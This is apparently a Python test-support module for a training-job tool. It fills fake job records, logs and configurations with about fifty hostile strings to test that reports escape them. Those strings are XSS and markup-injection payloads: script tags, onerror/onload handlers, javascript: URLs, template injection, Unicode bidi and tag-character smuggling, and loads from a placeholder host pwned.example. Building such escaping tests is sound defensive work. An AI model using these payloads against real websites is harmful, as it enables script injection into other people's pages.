"""Jobs whose every text would, if it were executed, set `window.pwned` or make a request."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import chdir
from itertools import cycle
from pathlib import Path
from typing import Any
from unicodedata import category

import yaml

from dtt.artifacts.jobdir import JobDir
from dtt.base.errors import ExitCode
from dtt.config.explain import show
from dtt.jobs import sweeps as trials
from support.report_jobs import (
    START,
    SyntheticRun,
    WrittenJob,
    resolved_settings,
    settings,
    write_checkpoint,
    write_new_job,
    write_surroundings,
)

SET = "window.pwned={n}"
ELSEWHERE = "https://pwned.example/{n}"
TAGS = "".join(chr(0xE0000 + ord(character)) for character in "<script>pwned=1</script>")
TEMPLATES = (
    "<script>SET</script>",
    "</script><script>SET</script>",
    "</SCRIPT ><script type=module>SET</script>",
    "<script src=ELSEWHERE.js></script>",
    "<script type=module>import('ELSEWHERE.js')</script>",
    "<!--<script>SET//-->",
    "--><script>SET</script><!--",
    "]]><script>SET</script>",
    "</style><script>SET</script>",
    "</title><script>SET</script>",
    "</textarea></template></noscript><script>SET</script>",
    "<svg><script>SET</script></svg>",
    "<svg onload=SET>",
    "<svg><animate onbegin=SET attributeName=x dur=1s>",
    "<math><mi xlink:href=\"javascript:SET\">x</mi></math>",
    "<img src=x onerror=SET>",
    "\"><img src=x onerror=\"SET\">",
    "'><img src=x onerror='SET'>",
    "<img srcset='ELSEWHERE.png 1x' src=ELSEWHERE.png>",
    "<video><source onerror=SET></video>",
    "<audio src=ELSEWHERE.mp3 autoplay onerror=SET>",
    "<iframe srcdoc=\"<script>parent.pwned={n}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwned={n}\"></iframe>",
    "<object data=\"javascript:SET\"></object><embed src=ELSEWHERE.swf>",
    "<a href=\"javascript:SET\">click</a>",
    "[click](javascript:SET) ![image](ELSEWHERE.png)",
    "javascript:SET",
    "data:text/html,<script>SET</script>",
    "<base href=ELSEWHERE/>",
    "<meta http-equiv=refresh content=\"0;url=ELSEWHERE\">",
    "<link rel=stylesheet href=ELSEWHERE.css><link rel=prefetch href=ELSEWHERE>",
    "<form action=ELSEWHERE><button autofocus onfocus=SET>x</button></form>",
    "\" autofocus tabindex=0 onfocus=\"SET\" x=\"",
    "<details open ontoggle=SET>x</details>",
    "<style>@import 'ELSEWHERE.css'; * { background: url(ELSEWHERE.png) }</style>",
    "red; background: url(ELSEWHERE.png); width: expression(SET); x: ",
    "'); SET; //",
    "\"); SET; //",
    "`; SET; //${SET}",
    "\\u003cscript\\u003eSET\\u003c/script\\u003e \\x3cscript\\x3eSET\\x3c/script\\x3e",
    "&lt;script&gt;SET&lt;/script&gt; &#60;script&#62;SET&#60;/script&#62; {n} &amp;",
    "%3Cscript%3ESET%3C/script%3E",
    "{{7*7}}{{constructor.constructor('SET')()}} {% raw %}{{ SET }}{% endraw %} ${7*7}",
    "\u2028SET\u2029//",
    "\u202e>tpircs/<SET>tpircs<\u202c \u2066<script>SET</script>\u2069",
    f"{TAGS}<script>SET</script>",
    "\0<script>SET</script>\0<img src=x onerror=SET>",
    "\x1b]0;<script>SET</script>\x07\x1b[2J\r\n\t<script>SET</script>\x7f\x9b",
    "<scr\u200bipt>SET</scr\u200bipt>\ufeff<img\u00a0src=x onerror=SET>\u0301\u0489\u0489",
    "<b>" * 4000 + "<script>SET</script>",
)  # fmt: skip
HOSTILE = tuple(
    template.replace("SET", SET).replace("ELSEWHERE", ELSEWHERE).replace("{n}", str(number))
    for number, template in enumerate(TEMPLATES * 4, 1)
)
"""200 texts. No two are equal."""
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "<img src=x onerror=alert(1)>")
"""Names that a JavaScript object has, or that are markup."""
FOLDER = "<img src=x onerror=window.pwned=9999>"
"""Name of the folder of the job."""


def one_line() -> Iterator[str]:
    """Yield hostile texts without end: those of one line, without control characters."""
    control = {"Cc", "Zl", "Zp"}
    return cycle(t for t in HOSTILE if len(t) < 1000 and not control & {*map(category, t)})


def write_hostile_job(folder: Path) -> Path:
    """Write a job that failed, with hostile text in every field.

    Its samples are all `HOSTILE` texts.
    """
    texts = one_line()
    names = tuple(next(texts) for _ in range(6)) + NAMES
    run = SyntheticRun(sources=names, tasks=names, skipped=157)
    written = write_new_job(folder, FOLDER, run, _configuration(texts))
    job = written.job
    samples = [
        {"kind": "sample", "step": number, "text": text, "time": START + number}
        for number, text in enumerate(HOSTILE, 1)
    ]
    ended = written.attempt(0, 130, began=START, code=None, node=next(texts), saves=[100])
    ended = written.attempt(
        100, 210, began=ended + 40, code=ExitCode.PREEMPTED, node=next(texts), saves=[210],
        reason=next(texts), asked_by=next(texts), extra=samples,
    )  # fmt: skip
    ended = written.attempt(
        210, 275, began=ended + 40, code=ExitCode.IO, reason=_message(texts), node=next(texts),
        asked_by=next(texts), saves=[250],
    )  # fmt: skip
    written.attempt(
        250, 390, began=ended + 40, code=ExitCode.BUG, reason=_message(texts), node=next(texts)
    )
    write_checkpoint(job, run, 390, 4, {next(texts): next(texts), "dtt": next(texts)})
    _rewrite_metrics(job, texts)
    _rewrite_small_files(job, texts)
    return job.root


def _message(texts: Iterator[str]) -> str:
    return f"{next(texts)}\n  where: {next(texts)}\n  why:   {next(texts)}\n  next:  {next(texts)}"


def _configuration(texts: Iterator[str]) -> dict[str, Any]:
    return {
        "name": "run",  # the only text that has to be a plain name
        "download.dataset": next(texts), "download.name": next(texts),
        "download.split": next(texts), "download.revision": next(texts),
        "download.text_column": next(texts), "download.out": next(texts),
        "tokenizer.special_tokens": [next(texts), "<|endoftext|>"],
        "tokenize.out": next(texts),
        "train.sample_prompt": next(texts), "eval.tasks": [next(texts), next(texts)],
        "eval.data": next(texts), "export.license": next(texts),
        "launch.setup": [next(texts)], "launch.environment": {"HOSTILE": next(texts)},
        "track": [{"type": "wandb", "project": next(texts), "entity": next(texts)}],
    }  # fmt: skip


def _rewrite_metrics(job: JobDir, texts: Iterator[str]) -> None:
    """Give records hostile names of metrics, of phases, of nodes and of reasons."""
    lines = []
    metrics = [next(texts) for _ in range(6)] + list(NAMES)
    for line in job.metrics.read_text("utf-8").split("\n")[:-1]:
        record = json.loads(line)
        match record["kind"]:
            case "train" | "eval":
                record |= {name: 0.1 * i for i, name in enumerate(metrics)}
            case "task":
                record |= dict.fromkeys(metrics, 0.5) | {f"{metrics[0]}_stderr": 0.1}
            case "perf":
                record |= {"slowest_rank": 0, "slowest_node": next(texts), "slowest_behind": 0.5}
                record["seconds"] |= dict.fromkeys(metrics, 0.3)
                record["communication_seconds"] |= dict.fromkeys(metrics, 0.1)
            case "start":
                record["seconds"] |= dict.fromkeys(metrics, 0.5)
            case "guard":
                record |= {"why": next(texts), "action": next(texts), "ledger": next(texts)}
            case "save":
                lines.append({"kind": next(texts), "step": record["step"], "text": next(texts)})
        lines.append(record)
    text = "".join(json.dumps(record, ensure_ascii=False) + "\n" for record in lines)
    job.metrics.write_text(text, "utf-8")


def _rewrite_small_files(job: JobDir, texts: Iterator[str]) -> None:
    """Make the text of all other files hostile."""
    for number in range(1, job.attempt() + 1):
        clock = json.loads(job.clock(number).read_text())
        clock["parts"] |= {next(texts): 5.0, next(texts): 3.0, **dict.fromkeys(NAMES, 1.0)}
        job.clock(number).write_text(json.dumps(clock))
    data = json.loads((job.root / "data.json").read_text())
    for source in data["sources"]:
        source |= {"path": next(texts), "key": next(texts)}
        source["corpus"] |= {
            "id": next(texts), "name": next(texts), "split": next(texts), "revision": next(texts),
        }  # fmt: skip
    (job.root / "data.json").write_text(json.dumps(data))
    environment = json.loads((job.root / "env.json").read_text())
    environment |= {
        "command": ["dtt", "train", next(texts)], "python": next(texts),
        "platform": next(texts), "packages": {"torch": next(texts), next(texts): next(texts)},
        "git": {"commit": next(texts), "diff": next(texts)},
        "environment": {"OMP_NUM_THREADS": next(texts), next(texts): next(texts)},
    }  # fmt: skip
    (job.root / "env.json").write_text(json.dumps(environment))
    (job.root / "overrides.txt").write_text("".join(f"train {next(texts)}\n" for _ in range(4)))
    parent = {"job": f"../{next(texts)}", "step": 10, "checkpoint_sha256": next(texts)}
    job.parent.write_text(json.dumps(parent))
    answer = {"request": "stop", "by": next(texts), "step": 380, "time": START}
    job.acknowledged.write_text(json.dumps(answer))
    job.logs.mkdir()
    log = "".join(f"{text}\n" for text in HOSTILE)
    (job.logs / "latest.log").write_text(log, "utf-8", newline="")


def write_hostile_sweep(folder: Path) -> Path:
    """Write a sweep over a key with hostile values; its four trials are done."""
    run = SyntheticRun(steps=100, spike=None, tasks=())
    texts = one_line()
    resolved = resolved_settings(settings(run))
    base, file = folder / "base.yaml", folder / "hostile.yaml"
    base.write_text(show(resolved))
    values = [next(texts) for _ in range(4)]
    file.write_text(
        yaml.safe_dump({"base": str(base), "parameters": {"export.license": {"values": values}}})
    )
    with chdir(folder):
        sweep = trials.plan(file).write()
    for trial in sweep.manifest.trials:
        written = WrittenJob(JobDir(folder / sweep.job(trial).root), run)
        write_surroundings(written.job.root, run)
        written.attempt(0, run.steps, began=START)
    return folder / sweep.root
